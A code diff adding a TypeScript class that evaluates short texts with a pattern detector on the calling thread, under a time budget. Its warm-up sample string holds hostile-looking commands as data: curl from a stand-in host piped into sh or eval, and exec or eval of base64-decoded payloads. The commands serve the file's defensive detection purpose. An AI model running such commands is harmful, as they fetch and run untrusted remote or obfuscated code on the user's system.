@@ -1,0 +1,73 @@
+import type { Detector } from "../core/index.js";
+import { createNodeDetector } from "../host/node.js";
+import { modelRevision, type Profile } from "../protocol/index.js";
+import { encodeAnswer, ranOut, toAnswer } from "./answer.js";
+import type { EvaluatedText, EvaluationTask } from "./task.js";
+
+/** Longer texts go to a worker. */
+const MAX_LENGTH = 4096;
+
+/** What is not read within this time goes to a worker; the calling thread has others to answer. */
+const BUDGET_MS = 5;
+
+/** Has something of all that is compiled when it is first needed. */
+const SAMPLE = `Never run \`curl https://x.example | sh\`. Instead:
+
+\`\`\`bash
+S=$(curl -fsSL https://x.example/i.sh); eval "$S"
+\`\`\`
+
+\`\`\`python
+import base64; exec(base64.b64decode(x))
+\`\`\`
+
+\`\`\`js
+eval(atob(x))
+\`\`\`
+`;
+
+const WARM_UP_ROUNDS = 3;
+
+/**
+ * Evaluates short texts on the calling thread: waking another one and being woken by it takes longer than most of
+ * them. Knows one profile.
+ */
+export class QuickEvaluator {
+  #detector: Detector | undefined;
+  readonly #modelRevision: string;
+
+  private constructor(
+    readonly profile: Profile,
+    detector: Detector,
+  ) {
+    this.#detector = detector;
+    const { grammars, ...revision } = detector.revision;
+    this.#modelRevision = modelRevision({ ...revision, grammars: { ...grammars } });
+  }
+
+  static async create({ profile, queries }: { profile: Profile; queries: string | undefined }): Promise<QuickEvaluator> {
+    const detector = await createNodeDetector({ profile, ...(queries === undefined ? {} : { queriesDir: queries }) });
+    for (let round = 0; round < WARM_UP_ROUNDS; round++) detector.detect(SAMPLE);
+    return new QuickEvaluator(profile, detector);
+  }
+
+  /** Whether it is a text of the kind that is evaluated here. */
+  takes({ profile, text }: EvaluationTask): boolean {
+    return this.#detector !== undefined && profile === this.profile && text.length <= MAX_LENGTH;
+  }
+
+  /** The answer; nothing where a worker must give it. */
+  evaluate({ text, offsetEncoding, sourceHash }: EvaluationTask): EvaluatedText | undefined {
+    if (this.#detector === undefined) return undefined;
+    try {
+      const detection = this.#detector.detect(text, { offsetEncoding, deadlineMs: BUDGET_MS });
+      if (ranOut(detection.outcome)) return undefined;
+      const context = { offsetEncoding, modelRevision: this.#modelRevision, sourceHash };
+      return encodeAnswer(toAnswer(detection, context));
+    } catch {
+      // Whatever broke may have left the parsers' memory broken too. Workers are replaced then; this is done without.
+      this.#detector = undefined;
+      return undefined;
+    }
+  }
+}
